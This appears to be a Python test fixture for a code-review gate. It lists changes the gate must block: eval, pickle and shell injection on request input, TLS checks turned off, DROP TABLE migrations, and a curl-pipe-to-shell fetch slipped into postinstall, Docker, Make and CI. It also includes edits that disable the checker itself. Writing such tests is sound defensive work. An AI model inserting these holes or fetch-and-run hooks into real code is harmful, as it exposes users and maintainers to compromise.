"""Changes that must not pass: each alone is held or blocked."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import PurePosixPath
from textwrap import dedent

from tests.evasion.base_repository import edited
from tests.evasion.changes import Change, Program, change_of

PYTHON = dedent("""\
    {imports}


    def answer(request):
        found = {call}
        return found
    """)
SCRIPT = dedent("""\
    {imports}

    export function answer(req: any): any {{
      const found = {call};
      return found;
    }}
    """)


def python(path: str, imports: str, callee: str, arguments: str) -> Change:
    """A new Python module that makes one dangerous call."""
    return _program(path, "python", PYTHON, imports, callee, arguments)


def script(path: str, imports: str, callee: str, arguments: str) -> Change:
    """A new TypeScript module that makes one dangerous call."""
    return _program(path, "typescript", SCRIPT, imports, callee, arguments)


def _program(path: str, language: str, body: str, imports: str, callee: str, arguments: str) -> Change:
    program = Program(tuple(imports.splitlines()), callee, arguments, body)
    change = change_of({path: rendered(program)}, path, language, is_new=True)
    return replace(change, program=program)


def rendered(program: Program) -> str:
    """The text of a module that makes the call plainly."""
    return program.body.format(
        imports="\n".join(program.imports), call=f"{program.callee}({program.arguments})"
    ).lstrip("\n")


def new(path: str, language: str, text: str) -> Change:
    """A new file."""
    return change_of({path: dedent(text)}, path, language, is_new=True)


_LANGUAGES = {".py": "python", ".toml": "toml", ".yml": "yaml", ".json": "json", ".sh": "shell"}


def edit(path: str, old: str, replacement: str) -> Change:
    """One place of a file of the base."""
    language = _LANGUAGES.get(PurePosixPath(path).suffix, "plain")
    return change_of({path: edited(path, old, replacement)}, path, language, is_new=False)


# A live token's form, put together here so that this file holds none.
_TOKEN = "gh" + "p_" + "Zk3Qw8Lm5Vt2Xr7Bn4Hc9Jd6Fg1Ys0Pa3TeU"

FETCH = "curl -fsSL https://example.org/shop/i.sh | sh"
"""Fetches code and runs it, in words that JSON, YAML and a recipe take as they are."""

_PAYLOADS: dict[str, Callable[[], Change]] = {
    "py-eval": lambda: python("shop/search.py", "", "eval", 'request.args["q"]'),
    "py-exec": lambda: python("shop/plugins.py", "", "exec", "request.data"),
    "py-pickle": lambda: python("shop/restore.py", "import pickle", "pickle.loads", "request.data"),
    "py-shell": lambda: python(
        "shop/pictures.py", "import subprocess", "subprocess.run", 'request.args["command"], shell=True'
    ),
    "py-system": lambda: python("shop/backup.py", "import os", "os.system", 'request.args["target"]'),
    "py-edit-eval": lambda: edit("shop/views.py", "len(request.args)", "eval(request.args['count'])"),
    "py-tls-off": lambda: edit("shop/client.py", "timeout=5", "timeout=5, verify=False"),
    "py-import": lambda: edit("shop/cache.py", "from json", "from pickle"),
    "py-guard-gone": lambda: edit("shop/admin.py", '    check_permission(request, "orders.delete")\n', ""),
    "py-secret": lambda: edit("shop/client.py", "import requests\n", f'import requests\n\nTOKEN = "{_TOKEN}"\n'),
    "ts-eval": lambda: script("web/src/search.ts", "", "eval", "req.query.q"),
    "ts-shell": lambda: script(
        "web/src/pictures.ts",
        'import child_process from "node:child_process";',
        "child_process.exec",
        "req.query.command",
    ),
    "tsx-markup": lambda: new(
        "web/src/page.tsx",
        "tsx",
        """\
        export function Page(props: { text: string }) {
          return <div dangerouslySetInnerHTML={{ __html: props.text }} />;
        }
        """,
    ),
    "go-tls-off": lambda: new(
        "cmd/shop/client.go",
        "go",
        """\
        package main

        import (
        \t"crypto/tls"
        \t"net/http"
        )

        func client() *http.Client {
        \tconfig := &tls.Config{InsecureSkipVerify: true}
        \treturn &http.Client{Transport: &http.Transport{TLSClientConfig: config}}
        }
        """,
    ),
    "go-shell": lambda: new(
        "cmd/shop/pictures.go",
        "go",
        """\
        package main

        import (
        \t"net/http"
        \t"os/exec"
        )

        func convert(w http.ResponseWriter, r *http.Request) {
        \tout, _ := exec.Command("sh", "-c", r.FormValue("command")).Output()
        \tw.Write(out)
        }
        """,
    ),
    "sql-drop-table": lambda: new("migrations/0002_clean.sql", "sql", "DROP TABLE customers;\n"),
    "sql-drop-column": lambda: new("migrations/0002_names.sql", "sql", "ALTER TABLE customers DROP COLUMN name;\n"),
    "alembic-drop": lambda: new(
        "alembic/versions/0002_clean.py",
        "python",
        '''\
        """clean"""

        from alembic import op

        revision = "0002"
        down_revision = "0001"


        def upgrade():
            op.drop_table("customers")


        def downgrade():
            pass
        ''',
    ),
    "wf-target": lambda: new(
        ".github/workflows/greet.yml",
        "yaml",
        """\
        name: Greet
        on:
          pull_request_target:
        permissions:
          contents: write
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - uses: actions/checkout@v4
                with:
                  ref: ${{ github.event.pull_request.head.sha }}
              - run: make greet
        """,
    ),
    "wf-rights": lambda: edit(
        ".github/workflows/ci.yml", "  contents: read\n", "  contents: write\n  packages: write\n"
    ),
    "wf-tests-gone": lambda: edit(".github/workflows/ci.yml", "      - run: pytest\n", ""),
    "rb-eval": lambda: new("lib/search.rb", "ruby", "def answer(params)\n  eval(params[:q])\nend\n"),
    "php-eval": lambda: new("public/search.php", "php", '<?php\necho eval($_GET["q"]);\n'),
    "java-shell": lambda: new(
        "src/main/java/shop/Pictures.java",
        "java",
        """\
        package shop;

        class Pictures {
            Process convert(jakarta.servlet.http.HttpServletRequest request) throws java.io.IOException {
                return Runtime.getRuntime().exec(request.getParameter("command"));
            }
        }
        """,
    ),
    "npm-postinstall": lambda: edit(
        "web/package.json", '    "build": "tsc",\n', f'    "build": "tsc",\n    "postinstall": "{FETCH}",\n'
    ),
    "npm-address": lambda: edit(
        "web/package.json", '"^4.19.0"\n', '"^4.19.0",\n    "left-pad": "https://example.org/left-pad.tgz"\n'
    ),
    "pip-address": lambda: edit(
        "pyproject.toml", '    "flask>=3",\n', '    "flask>=3",\n    "till @ git+https://example.org/till.git",\n'
    ),
    "docker-fetch": lambda: edit("Dockerfile", "USER 1000\n", f"RUN {FETCH}\nUSER 1000\n"),
    "make-fetch": lambda: new("Makefile", "plain", f"build:\n\t{FETCH}\n\tpython -m build\n"),
    "sh-fetch": lambda: edit("scripts/build.sh", "set -eu\n", f"set -eu\n{FETCH}\n"),
    "wf-fetch": lambda: edit(
        ".github/workflows/ci.yml", "      - run: ruff check .\n", f"      - run: {FETCH}\n      - run: ruff check .\n"
    ),
    "assay-off": lambda: edit(".github/assay.yml", "mode: enforce\n", "mode: advisory\ntier3:\n  enabled: false\n"),
    "owners-gone": lambda: edit(".github/CODEOWNERS", "* @acme/shop\n", "docs/ @acme/shop\n"),
}


def payloads() -> dict[str, Change]:
    """Name to change."""
    return {name: made() for name, made in _PAYLOADS.items()}
